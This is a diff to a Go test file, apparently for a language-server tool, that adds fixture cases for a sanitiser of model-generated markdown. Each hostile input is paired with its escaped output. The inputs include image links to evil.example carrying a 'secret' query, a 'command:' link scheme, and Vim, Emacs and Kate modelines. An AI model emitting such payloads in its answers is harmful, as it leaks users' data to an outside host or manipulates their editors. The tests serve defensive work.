@@ -9,8 +9,8 @@ import (
 	"github.com/llmls/llmls/internal/completion/completiontest"
 )
 
-// hostile is what answers have done to their readers elsewhere, and safe what
-// is left of it, block by block.
+// hostile lists attacks by answers that were seen elsewhere; safe is what the
+// sanitiser makes of each block.
 var hostile = []struct{ name, text, safe string }{
 	{"image", "![logo](https://evil.example/?q=secret)", `!\[logo (evil.example)](https://evil.example/?q=secret)`},
 	{"reference image", "![logo][1]\n\n[1]: https://evil.example/", "!\\[logo][1]\n\n[1]\\: https://evil.example/"},
@@ -27,6 +27,21 @@ var hostile = []struct{ name, text, safe string }{
 	{"zero width", "pass\u200bword", `pass\u{200B}word`},
 	{"code", "```go\nif a < b { _ = `<![x](y)` }\n```", "```go\nif a < b { _ = `<![x](y)` }\n```"},
 	{"code in a line", "`Vec<T>` and `m[k](v)`", "`Vec<T>` and `m[k](v)`"},
+	{"strikethrough", "~`![logo](https://evil.example/)`", "~`!\\[logo]\\(https://evil.example/)`"},
+	{"emphasis that ends in code", "*``![logo](https://evil.example/)*\\`` x", "*``!\\[logo]\\(https://evil.example/)*\\`` x"},
+	{"bracket before code", "[`<img src=x>` `", "[`\\<img src=x>` `"},
+	{"image in a link", "[!\\[a\\](https://evil.example/)](https://evil.example/)", "[!\\[a\\](https://evil.example/)]\\(https://evil.example/)"},
+	{"fence of two kinds", "```\n```~\n![x](y)\n```", "```\n``` ~\n![x](y)\n```"},
+	{"fence that is a table", "```a|b\n-|-\n![x](y)\n```", "```a/b\n-|-\n![x](y)\n```"},
+	{"Mermaid behind a space", "```\u00a0 mermaid\ngraph TD\n```", "```_ mermaid\ngraph TD\n```"},
+	{"math", "```math\nx\n```", "```text (math)\nx\n```"},
+	{"quote in a list", "* a\n> ```\n> ![x](y)\n> ```", "* a\n\n> ```\n> ![x](y)\n> ```"},
+	{"definition over paragraphs", "[a\n\nb]: command:x", "[a\n\nb]\\: command:x"},
+	{"title", `[docs](https://e.example/ "Docs")`, `[docs (e.example)](https://e.example/ "Docs")`},
+	{"indented code", "    if a<b { ![x](y) }", "    if a<b { ![x](y) }"},
+	{"Vim", "```\nx = 1 # vim: ft=c\n\tvim>802:ft=c\n ex:ft=c\n```\nvi:ft=c\nVim: set ft=c:", "```\nx = 1 # vim\\: ft=c\n\tvim>802\\:ft=c\n ex\\:ft=c\n```\nvi\\:ft=c\nVim: se\\t ft=c:"},
+	{"Emacs", "# -*- mode: server -*-\n# LOCAL variables:\n# mode: server\n# End:", "# -*\\- mode: server -*\\-\n# LOCAL variables\\:\n# mode: server\n# End:"},
+	{"Kate", "kate: hl C; kate-wildcard(*): hl C; kate-mimetype(a/b): hl C;", "kate\\: hl C; kate-wildcard\\(*): hl C; kate-mimetype\\(a/b): hl C;"},
 	{"people", "中文 👩\u200d💻 é", "中文 👩\u200d💻 é"},
 	{"what waits at the end", "see `x](y", "see `x]\\(y"},
 }
